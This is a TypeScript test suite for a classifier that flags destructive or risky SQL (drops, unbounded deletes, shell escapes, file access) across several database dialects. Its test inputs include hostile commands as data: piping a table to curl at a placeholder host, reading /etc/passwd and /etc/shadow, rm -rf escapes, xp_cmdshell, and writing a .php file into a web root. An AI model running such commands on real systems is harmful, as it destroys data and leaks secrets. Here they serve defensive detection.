/** What is read in SQL: what goes, how much of it, what is only said and not done. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { type Dialect, readSql, type Statement } from "./sql.ts";

const briefly = (statement: Statement): string =>
  "of" in statement
    ? `${statement.does} ${statement.of} ${statement.name}${statement.whole ? " whole" : ""}`
    : `${statement.does} ${"text" in statement ? statement.text : statement.path}`;

const reads = (dialect: Dialect, text: string, ...expected: readonly string[]) =>
  test(`${dialect}: ${text}`, () => assert.deepEqual(readSql(text, dialect).map(briefly), expected));

reads("postgres", "DROP DATABASE IF EXISTS shop;", "drop database shop whole");
reads("postgres", 'drop schema "Public" cascade', "drop database Public whole");
reads("postgres", "DROP TABLE a, b.c", "drop table a whole", "drop table b.c whole");
reads("postgres", "DR/**/OP TABLE a");
reads("postgres", "DROP/**/TABLE/* x */a -- gone", "drop table a whole");
reads("postgres", "drop materialized view v", "drop code v");
reads("postgres", "TRUNCATE ONLY a, b RESTART IDENTITY", "truncate table a whole", "truncate table b whole");
reads("postgres", "DELETE FROM users", "delete rows users whole");
reads("postgres", "DELETE FROM users WHERE id = 7", "delete rows users");
reads("postgres", "DELETE FROM users WHERE 1=1", "delete rows users whole");
reads("postgres", "DELETE FROM users WHERE (id = 7 OR true)", "delete rows users whole");
reads("postgres", "DELETE FROM users WHERE name LIKE '%'", "delete rows users whole");
reads("postgres", "DELETE FROM users WHERE id IN (SELECT id FROM old WHERE a > 1)", "delete rows users");
reads("postgres", "DELETE FROM users USING (SELECT 1 WHERE true) x", "delete rows users whole");
reads("postgres", "UPDATE users SET admin = true", "update rows users whole");
reads("postgres", "UPDATE users SET note = 'WHERE' WHERE id = 1", "update rows users");
reads("postgres", "SELECT 'DROP TABLE a; DELETE FROM b'");
reads("postgres", "SELECT $$ DROP TABLE a; $$; SELECT $x$ DELETE FROM b; $x$");
reads("postgres", "-- DROP TABLE a;\n/* DELETE FROM b; */ SELECT 1");
reads("postgres", "EXPLAIN DELETE FROM users");
reads("postgres", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users", "delete rows users whole");
reads("postgres", "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "delete rows users whole");
reads("postgres", "WITH a AS (SELECT 1) DELETE FROM users WHERE id IN (SELECT * FROM a)", "delete rows users");
reads("postgres", "BEGIN; DELETE FROM users; ROLLBACK;");
reads("postgres", "BEGIN; DELETE FROM users; COMMIT; ROLLBACK", "delete rows users whole");
reads("postgres", "BEGIN; DELETE FROM users; ROLLBACK TO s; COMMIT", "delete rows users whole");
reads("mysql", "BEGIN; DROP TABLE users; ROLLBACK;", "drop table users whole");
reads("postgres", "CREATE TEMP TABLE t (x int); DROP TABLE t", "create table t");
reads("postgres", "CREATE TABLE t (x int); DELETE FROM t", "create table t");
reads("postgres", "CREATE TABLE IF NOT EXISTS t (x int); DROP TABLE t", "create table t", "drop table t whole");
reads("postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE a'; END $$", "drop table a whole");
reads("postgres", "DO $$ BEGIN IF true THEN DELETE FROM a; END IF; END $$", "delete rows a whole");
reads("postgres", "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM a; $$ LANGUAGE sql", "create code f");
reads("postgres", "PREPARE p AS DELETE FROM a; EXECUTE p", "delete rows a whole");
reads("postgres", "COPY a TO PROGRAM 'curl -d @- http://x'", "shell curl -d @- http://x");
reads("postgres", "COPY (SELECT 1 FROM a) TO '/tmp/x'", "save /tmp/x");
reads("postgres", "SELECT pg_read_file('/etc/passwd')", "load /etc/passwd");
reads("postgres", "\\! rm -rf /x\nSELECT 1", "shell rm -rf /x");
reads("postgres", "\\i drop.sql", "include drop.sql");
reads("postgres", "\\copy a from program 'ls'", "shell ls");
reads("postgres", "select 1 \\g |sh", "shell sh");
reads("postgres", "\\dt\n\\l\n\\d users");
reads("postgres", "ALTER TABLE a DROP COLUMN b", "drop column a whole");
reads("postgres", "ALTER TABLE a DROP CONSTRAINT b", "alter table a");
reads("postgres", "INSERT INTO a VALUES ('DELETE FROM b')", "insert rows a");
reads("postgres", "INSERT INTO a VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1", "insert rows a");
reads("postgres", "DROP DATABASE $DB", "drop database $db whole");
reads("mysql", "/*!50000 DROP TABLE a */", "drop table a whole");
reads("mysql", "SELECT 'a\\'; DROP TABLE b; --'");
reads("postgres", "SELECT 'a\\'; DROP TABLE b; --'", "drop table b whole");
reads("mysql", "# DROP TABLE a\nDELETE FROM a LIMIT 10", "delete rows a");
reads("mysql", 'SELECT "DROP TABLE a"');
reads("mysql", "system rm -rf /x", "shell rm -rf /x");
reads("mysql", "SELECT * FROM a INTO OUTFILE '/var/www/x.php'", "save /var/www/x.php");
reads("mysql", "LOAD DATA LOCAL INFILE '/etc/shadow' INTO TABLE a", "load /etc/shadow");
reads("mysql", "DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM a; END//\nDELIMITER ;\nSELECT 1", "create code p");
reads(
  "mysql",
  "CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW BEGIN DELETE FROM b; END; DROP TABLE c",
  "create code t",
  "drop table c whole",
);
reads("sqlite", ".shell rm x", "shell rm x");
reads("sqlite", ".output '|sh'\nSELECT 1", "shell sh");
reads("sqlite", ".tables\n.schema a\n.mode csv");
reads("sqlite", "EXPLAIN QUERY PLAN DELETE FROM a");
reads("tsql", "SELECT 1 DROP TABLE a", "drop table a whole");
reads("tsql", "DROP TABLE #mine\nGO\nEXEC xp_cmdshell 'dir'", "shell dir");
reads("tsql", "EXEC('DROP DATABASE a')", "drop database a whole");
reads("oracle", "BEGIN EXECUTE IMMEDIATE 'DROP TABLE a'; END;\n/", "drop table a whole");
reads("oracle", "host rm x", "shell rm x");
reads("other", "CREATE OR REPLACE TABLE a AS SELECT 1", "drop table a whole");
reads("other", "ALTER TABLE a DELETE WHERE 1", "delete rows a whole");
reads("other", "DROP KEYSPACE k", "drop database k whole");

test("any text has a reading, and a long one takes about as long as it is long", () => {
  for (const text of ["'", '"', "$$", "/*", "((((", "\\", "[", "WITH", "DROP", "EXEC(", "DELETE FROM", "COPY", "\0"]) {
    for (const dialect of ["postgres", "mysql", "sqlite", "tsql", "oracle", "other"] as const) {
      assert.ok(Array.isArray(readSql(text.repeat(2_000), dialect)));
    }
  }
});

test("what is too long is said to be unread", () => {
  assert.deepEqual(readSql("SELECT 1;".repeat(20_000), "postgres").map(briefly), ["unread database more SQL than is read"]);
});
